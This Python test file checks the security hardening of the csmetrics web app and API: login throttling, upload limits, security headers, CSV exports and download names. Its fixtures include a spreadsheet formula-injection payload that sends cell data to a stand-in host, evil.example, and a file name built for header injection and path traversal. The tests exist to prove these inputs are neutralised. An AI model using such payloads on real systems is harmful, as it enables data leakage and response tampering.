"""Hardening of the served app (API and dashboard), against a real uvicorn server over HTTP:
login throttling, uploads refused before their body is stored, security headers, CSV cells
that cannot run as formulas, clean download names, no server paths in errors, a private
warehouse file, scrypt parameters and their upgrade, expired sessions purged."""

from __future__ import annotations

import hashlib
import io
import re
import secrets
import stat
import tempfile
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import httpx
import pandas as pd
import pytest

from csmetrics import Workspace
from csmetrics.clock import Clock, default_clock
from csmetrics.reports.export import content_disposition
from csmetrics.server.signin import ACCOUNT_FREE, ADDRESS_FREE, FORGET_AFTER
from csmetrics.store.accounts import Accounts, verify_password
from tests.conftest import CUSTOMERS_HEADER, run_cli, write_csv
from tests.serving import served

NASTY = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PASSWORDS = {"ana": "admin-password-1", "ed": "editor-password-1", "vera": "viewer-password-1",
             "dora": "disabled-password-1", "olga": "old-hash-password-1"}
HEADERS = {"content-security-policy", "x-frame-options", "x-content-type-options",
           "referrer-policy"}


class MovingClock(Clock):
    """A clock the tests move forward (starting at the session's fixed now)."""

    def __init__(self) -> None:
        self.at = default_clock().now()

    def now(self) -> datetime:
        return self.at


@dataclass
class Served:
    url: str
    ws: Workspace
    clock: MovingClock
    tokens: dict[str, str]

    def api(self, role: str | None = None) -> httpx.Client:
        headers = {"Authorization": f"Bearer {self.tokens[role]}"} if role else {}
        return httpx.Client(base_url=f"{self.url}/api/v1", headers=headers, timeout=120)

    def fresh(self) -> None:
        """Move past every throttling window and forget the failures counted so far."""
        self.clock.at += FORGET_AFTER + timedelta(hours=1)


def old_hash(password: str) -> str:
    """A hash as csmetrics made them before: scrypt N=2^14."""
    salt = secrets.token_bytes(16)
    digest = hashlib.scrypt(password.encode(), salt=salt, n=2**14, r=8, p=1, dklen=32)
    return f"scrypt$16384$8$1${salt.hex()}${digest.hex()}"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A small workspace (one customer named like a formula) limited to 1 MB uploads, with
    users of every role, a disabled one and one whose hash has the old parameters."""
    folder = tmp_path_factory.mktemp("hardening")
    Workspace.init(folder / "ws", name="Hard Co").close()
    config = folder / "ws" / "csmetrics.toml"
    config.write_text(config.read_text().replace("max_upload_mb = 200", "max_upload_mb = 1"))
    clock = MovingClock()
    ws = Workspace.load(folder / "ws", clock=clock)
    customers = write_csv(folder / "customers.csv", CUSTOMERS_HEADER, [
        ["C1", NASTY, "2024-01-05", "pro", "NA"], ["C2", "-5", "2024-02-01", "basic", "EMEA"],
        ["C3", "Gamma", "2024-03-15", "basic", "APAC"]])
    subscriptions = write_csv(
        folder / "subscriptions.csv",
        ["subscription_id", "customer_id", "plan", "amount", "billing_interval", "start_date"],
        [["S1", "C1", "pro", 100, "month", "2024-01-05"],
         ["S2", "C2", "basic", 50, "month", "2024-02-01"]])
    ws.ingest("customers", [customers])
    ws.ingest("subscriptions", [subscriptions])
    accounts = Accounts(ws.warehouse.sql)
    for name, role in (("ana", "admin"), ("ed", "editor"), ("vera", "viewer"),
                       ("dora", "viewer"), ("olga", "viewer")):
        accounts.add_user(name, PASSWORDS[name], role)
    accounts.set_disabled("dora", True)
    ws.warehouse.sql.execute("UPDATE _users SET password_hash = ? WHERE username = 'olga'",
                             [old_hash(PASSWORDS["olga"])])
    tokens = {"viewer": accounts.create_token("vera", "t"),
              "editor": accounts.create_token("ed", "t")}
    with served(ws) as url:
        yield Served(url, ws, clock, tokens)
    ws.close()


def sign_in(site: Served, client: httpx.Client, user: str, password: str) -> httpx.Response:
    """Post the dashboard's sign-in form as a browser does (with its CSRF token and cookie;
    the cookies are Secure, which httpx keeps to HTTPS, so they are sent by hand)."""
    form = client.get(f"{site.url}/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
    assert csrf, form.text
    cookie = form.cookies["csmetrics_login_csrf"]
    return client.post(f"{site.url}/login", headers={"Cookie": f"csmetrics_login_csrf={cookie}"},
                       data={"username": user, "password": password, "csrf": csrf.group(1)})


def browser() -> httpx.Client:
    return httpx.Client(timeout=120, follow_redirects=False)


def signed_in(site: Served, user: str) -> httpx.Client:
    client = browser()
    answer = sign_in(site, client, user, PASSWORDS[user])
    assert answer.headers["location"] == "/"
    client.headers["Cookie"] = f"csmetrics_session={answer.cookies['csmetrics_session']}"
    return client


def upload_temps() -> set[str]:
    return {p.name for p in Path(tempfile.gettempdir()).glob("csmetrics-upload-*")}


def ledger(site: Served) -> tuple[int, int]:
    sql = site.ws.warehouse.sql
    return (sql.execute("SELECT count(*) FROM _batches").fetchone()[0],  # type: ignore[index]
            sql.execute("SELECT count(*) FROM customers").fetchone()[0])  # type: ignore[index]


# --- login throttling and constant-time refusals ------------------------------------------


def test_sign_in_is_throttled_after_failures_and_a_success_resets_the_count(site):
    site.fresh()
    with browser() as client:
        for _ in range(ACCOUNT_FREE - 1):
            assert sign_in(site, client, "vera", "wrong-password").headers["location"] == \
                "/login?error=wrong"
        assert sign_in(site, client, "vera", PASSWORDS["vera"]).headers["location"] == "/"
        # the success cleared the count: as many failures again before the door closes
        for _ in range(ACCOUNT_FREE):
            refused = sign_in(site, client, "vera", "wrong-password")
            assert refused.status_code == 303, refused.text
        throttled = sign_in(site, client, "vera", PASSWORDS["vera"])  # right, but too soon
        assert throttled.status_code == 429
        wait = int(throttled.headers["retry-after"])
        assert wait > 0
        assert "Too many failed sign-ins" in throttled.text
        site.clock.at += timedelta(seconds=wait - 1)
        assert sign_in(site, client, "vera", PASSWORDS["vera"]).status_code == 429
        site.clock.at += timedelta(seconds=1)
        assert sign_in(site, client, "vera", PASSWORDS["vera"]).headers["location"] == "/"
        # another account was never throttled
        assert sign_in(site, client, "ed", PASSWORDS["ed"]).headers["location"] == "/"


def test_sign_in_is_throttled_per_address_too(site):
    site.fresh()
    with browser() as client:
        for n in range(ADDRESS_FREE):  # a spray: one failure for each of many names
            assert sign_in(site, client, f"nobody-{n}", "guess").status_code == 303
        throttled = sign_in(site, client, "ed", PASSWORDS["ed"])
        assert throttled.status_code == 429 and int(throttled.headers["retry-after"]) > 0
    site.fresh()


def test_unknown_disabled_and_wrong_password_are_refused_alike(site):
    site.fresh()
    answers = []
    with browser() as client:
        for user, password in (("nobody", "some-password-1"), ("dora", PASSWORDS["dora"]),
                               ("vera", "not-her-password")):
            response = sign_in(site, client, user, password)
            answers.append((response.status_code, response.headers.get("location"),
                            response.content))
            assert "csmetrics_session" not in response.cookies
    assert answers[0] == answers[1] == answers[2]
    assert answers[0][:2] == (303, "/login?error=wrong")


def test_an_old_parameter_hash_verifies_and_is_upgraded_at_sign_in(site):
    site.fresh()
    sql = site.ws.warehouse.sql
    before = sql.execute("SELECT password_hash FROM _users WHERE username = 'olga'").fetchone()[0]
    assert before.startswith("scrypt$16384$")
    with browser() as client:
        assert sign_in(site, client, "olga", PASSWORDS["olga"]).headers["location"] == "/"
    after = sql.execute("SELECT password_hash FROM _users WHERE username = 'olga'").fetchone()[0]
    assert after.startswith(f"scrypt${2**17}$8$1$")
    assert verify_password(PASSWORDS["olga"], after)
    assert not verify_password("wrong", after)
    with browser() as client:  # and the new hash signs in
        assert sign_in(site, client, "olga", PASSWORDS["olga"]).headers["location"] == "/"


def test_expired_sessions_are_purged_when_a_session_starts(site):
    site.fresh()
    sql = site.ws.warehouse.sql
    old = signed_in(site, "vera")
    assert old.get(f"{site.url}/data").status_code == 200
    count = sql.execute("SELECT count(*) FROM _sessions").fetchone()[0]
    assert count >= 1
    site.clock.at += timedelta(hours=13)  # past every session's 12 hours
    assert old.get(f"{site.url}/data").status_code == 303  # expired: to the sign-in page
    signed_in(site, "ed").close()
    rows = sql.execute("SELECT username, expires_at FROM _sessions").fetchall()
    assert [r[0] for r in rows] == ["ed"]
    assert all(r[1] > site.clock.now() for r in rows)
    old.close()


# --- uploads ------------------------------------------------------------------------------


def test_uploads_are_refused_before_their_body_is_stored(site):
    site.fresh()
    before, temps = ledger(site), upload_temps()
    small = ("customers.csv", b"customer_id,name\nC9,Nine\n", "text/csv")
    big = ("customers.csv", b"customer_id,name\n" + b"C9,Nine\n" * 200_000, "text/csv")
    with site.api() as anonymous:
        refused = anonymous.post("/ingest/customers", files={"file": small})
        assert refused.status_code == 401
    with site.api("viewer") as viewer:
        assert viewer.post("/ingest/customers", files={"file": small}).status_code == 403
    with site.api("editor") as editor:
        too_big = editor.post("/ingest/customers", files={"file": big})
        assert too_big.status_code == 413
        assert "1 MB" in too_big.json()["error"]["message"]
        assert "max_upload_mb" in too_big.json()["error"]["message"]

        def chunks() -> Iterator[bytes]:  # no Content-Length: counted while streaming
            yield (b"--xx\r\nContent-Disposition: form-data; name=\"file\"; filename=\"c.csv\""
                   b"\r\nContent-Type: text/csv\r\n\r\ncustomer_id,name\n")
            for _ in range(20):
                yield b"C9,Nine\n" * 10_000
            yield b"\r\n--xx--\r\n"

        streamed = editor.post("/ingest/customers", content=chunks(),
                               headers={"Content-Type": "multipart/form-data; boundary=xx"})
        assert streamed.status_code == 413
    viewer_page = signed_in(site, "vera")
    with closing(viewer_page):  # the dashboard's Data page
        csrf = re.search(r'name="csrf" value="([^"]+)"', viewer_page.get(
            f"{site.url}/customers").text).group(1)  # type: ignore[union-attr]
        refused = viewer_page.post(f"{site.url}/data/upload", data={
            "csrf": csrf, "table": "customers"}, files={"file": small})
        assert refused.status_code == 403
    editor_page = signed_in(site, "ed")
    with closing(editor_page):
        csrf = re.search(r'name="csrf" value="([^"]+)"', editor_page.get(
            f"{site.url}/data").text).group(1)  # type: ignore[union-attr]
        too_big = editor_page.post(f"{site.url}/data/upload", data={
            "csrf": csrf, "table": "customers"}, files={"file": big})
        assert too_big.status_code == 413 and "1 MB" in too_big.text
    with browser() as anonymous_page:
        assert anonymous_page.post(f"{site.url}/data/upload",
                                   files={"file": small}).headers["location"] == "/login"
    assert ledger(site) == before
    assert upload_temps() == temps


def test_an_editor_upload_still_loads_and_its_error_names_no_server_path(site):
    site.fresh()
    root = str(site.ws.root)
    with site.api("editor") as editor:
        loaded = editor.post("/ingest/customers", files={"file": (
            "more.csv", b"customer_id,name,started_at\nC4,Delta,2024-04-01\n", "text/csv")})
        assert loaded.status_code == 200, loaded.text
        assert loaded.json()["inserted"] == 1
        empty = editor.post("/ingest/customers", files={"file": ("empty.csv", b"", "text/csv")})
        assert empty.status_code == 400
        message = empty.json()["error"]["message"]
        assert message.startswith("empty.csv:"), message
        assert tempfile.gettempdir() not in message and root not in message
    page = signed_in(site, "ed")
    with closing(page):
        csrf = re.search(r'name="csrf" value="([^"]+)"', page.get(
            f"{site.url}/data").text).group(1)  # type: ignore[union-attr]
        shown = page.post(f"{site.url}/data/upload", data={"csrf": csrf, "table": "customers"},
                          files={"file": ("broken.csv", b"", "text/csv")})
        assert shown.status_code == 200 and "broken.csv" in shown.text
        assert tempfile.gettempdir() not in shown.text and root not in shown.text
    # a broken scorecard in the workspace: the error names the file, not the folder
    scorecard = site.ws.root / "health.toml"
    saved = scorecard.read_text() if scorecard.exists() else None
    scorecard.write_text("this is [ not toml\n")
    try:
        with site.api("viewer") as viewer:
            broken = viewer.get("/health")
            assert broken.status_code >= 400
            message = broken.json()["error"]["message"]
            assert "health.toml" in message and root not in message, message
    finally:
        if saved is None:
            scorecard.unlink()
        else:
            scorecard.write_text(saved)


# --- headers, exports, files --------------------------------------------------------------


def test_security_headers_on_api_and_dashboard_responses_and_docs_without_a_cdn(site):
    with site.api("viewer") as api, browser() as page:
        responses = [api.get("/live"), api.get("/metrics"), api.get("/no-such-route"),
                     page.get(f"{site.url}/login"), page.get(f"{site.url}/static/app.css"),
                     page.get(f"{site.url}/")]
        docs = api.get("/docs")  # Swagger UI from the installed package, not a CDN
        assert docs.status_code == 200 and "://" not in docs.text
        assets = re.findall(r'(?:src|href)="([^"]+)"', docs.text)
        assert assets and all(a.startswith("/api/v1/docs/") for a in assets), assets
        assert all(api.get(a.removeprefix("/api/v1")).status_code == 200 for a in assets)
        responses.append(docs)
        assert api.get("/openapi.json").status_code == 200
    for response in responses:
        assert HEADERS <= set(response.headers), (response.url, response.headers)
        assert response.headers["x-frame-options"] == "DENY"
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "same-origin"
        policy = response.headers["content-security-policy"]
        assert "default-src 'self'" in policy and "script-src 'self'" in policy
        assert "unsafe-inline" not in policy


def test_csv_exports_neutralise_formulas_but_keep_numbers(site, tmp_path):
    with site.api("viewer") as api:
        answer = api.get("/customers", params={"format": "csv"})
    assert answer.status_code == 200
    assert answer.headers["content-disposition"] == 'attachment; filename="customers.csv"'
    frame = pd.read_csv(io.StringIO(answer.text), dtype={"name": str})
    names = dict(zip(frame.customer_id, frame.name, strict=True))
    assert names["C1"] == "'" + NASTY
    assert names["C2"] == "'-5"  # text that looks like a formula start is text too
    assert frame.loc[frame.customer_id == "C2", "mrr"].tolist() == [50]
    page = signed_in(site, "vera")
    with closing(page):
        download = page.get(f"{site.url}/download/customers/customers.csv")
    assert download.headers["content-disposition"] == \
        'attachment; filename="customers-customers.csv"'
    assert f'"\'{NASTY.replace(chr(34), chr(34) * 2)}"' in download.text
    # the CLI's --out FILE.csv (on a workspace of its own: the served one is in use)
    ws = Workspace.init(tmp_path / "cli", name="CLI Co")
    ws.ingest("customers", [write_csv(tmp_path / "c.csv", CUSTOMERS_HEADER, [
        ["C1", NASTY, "2024-01-05", "pro", "NA"], ["C2", "@SUM(1)", "2024-01-05", "pro", "NA"]])])
    ws.close()
    out = tmp_path / "customers.csv"
    run_cli("customers", "list", "--out", str(out), "--workspace", str(tmp_path / "cli"))
    written = pd.read_csv(out, dtype={"name": str})
    assert sorted(written.name) == sorted(["'" + NASTY, "'@SUM(1)"])


def test_content_disposition_names_are_sanitised():
    assert content_disposition("mrr-by-month.csv") == 'attachment; filename="mrr-by-month.csv"'
    nasty = content_disposition('a"; filename=evil.exe\r\nX-Injected: 1/../x.csv')
    assert "\r" not in nasty and "\n" not in nasty and "/" not in nasty
    assert nasty.startswith('attachment; filename="') and nasty.count('"') == 2
    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+"', nasty)
    accented = content_disposition("Zoë café.xlsx")
    assert accented == ("attachment; filename=\"Zo_caf_.xlsx\"; "
                        "filename*=UTF-8''Zo%C3%AB%20caf%C3%A9.xlsx")


def test_the_warehouse_and_its_log_are_private(site, tmp_path):
    fresh = Workspace.init(tmp_path / "new", name="New Co")
    try:
        assert stat.S_IMODE(Path(fresh.database_path).stat().st_mode) == 0o600
    finally:
        fresh.close()
    with site.api("editor") as editor:  # the server writes: the log is re-created private
        assert editor.post("/events", json=[{
            "customer_id": "C1", "user_id": "u1", "event": "login",
            "occurred_at": "2024-05-01T10:00:00Z"}]).status_code == 200
    database = Path(site.ws.database_path)
    for file in (database, database.with_name(database.name + ".wal")):
        if file.exists():
            assert stat.S_IMODE(file.stat().st_mode) == 0o600, file
